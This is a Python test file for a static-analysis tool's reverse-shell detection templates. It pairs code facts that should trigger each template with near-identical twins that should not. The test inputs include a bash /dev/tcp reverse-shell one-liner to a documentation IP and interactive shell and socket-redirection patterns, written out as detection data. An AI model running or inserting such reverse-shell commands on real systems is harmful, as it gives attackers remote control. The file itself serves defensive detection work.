"""Reverse shells: each template is told by its facts, and not by a twin that lacks what makes it one."""

from dataclasses import replace

import pytest

from pratique.analysis.chains import find_chains
from pratique.analysis.chains.reverse_shell import REVERSE_SHELL
from pratique.analysis.facts import Capability, Taint, Use
from tests.analysis.chains.making import (
    Case,
    connect,
    contents,
    fetch,
    file,
    flow,
    sends,
    start,
    starts,
    told,
    use,
)

CASES = (
    Case("socket-to-shell", [connect(), start("/bin/sh -i")], [connect(), start("git status")]),
    Case(
        "socket-in-place-of-input",
        [connect(), use(Capability.PROCESS, "os.dup2")],
        [use(Capability.PROCESS, "os.dup2")],
    ),
    Case(
        "shell-tool-connected",
        [start("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")],
        [start("nc -z far.invalid 80")],
    ),
    Case(
        "commands-from-socket",
        [connect(), use(Capability.NETWORK, "socket.socket.recv"), start()],
        [connect(), use(Capability.NETWORK, "socket.socket.recv")],
    ),
    Case("socket-flows-to-program", [connect(), starts(Taint.NETWORK)], [fetch(), starts(Taint.NETWORK)]),
    Case("request-told-code", [use(Capability.CODE, "told-by-request")], [use(Capability.CODE, "eval")]),
    Case(
        "program-output-answered",
        [flow(Capability.NETWORK, "socket.socket.connect", Taint.PROCESS)],
        [sends(Taint.PROCESS)],
    ),
)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_facts_are_told(case: Case) -> None:
    assert 1 == len(told(case, case.facts))


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_twin_is_not(case: Case) -> None:
    assert [] == told(case, case.quiet)


def test_every_template_of_the_family_has_its_case() -> None:
    assert [template.id for template in REVERSE_SHELL] == [case.template for case in CASES]


@pytest.mark.parametrize(
    ("brings", "found"), [(fetch(), False), (use(Capability.NETWORK, "socket.socket.recv"), True)]
)
def test_a_program_that_a_request_brings_comes_from_no_socket_beside_it(brings: Use, found: bool) -> None:
    facts = file([connect(), brings, starts(Taint.NETWORK)])
    facts = replace(facts, flows=(replace(facts.flows[0], origin_line=2),))

    templates = {chain.template for chain in find_chains(contents({"a.py": facts}), frozenset())}
    assert found is ("socket-flows-to-program" in templates)
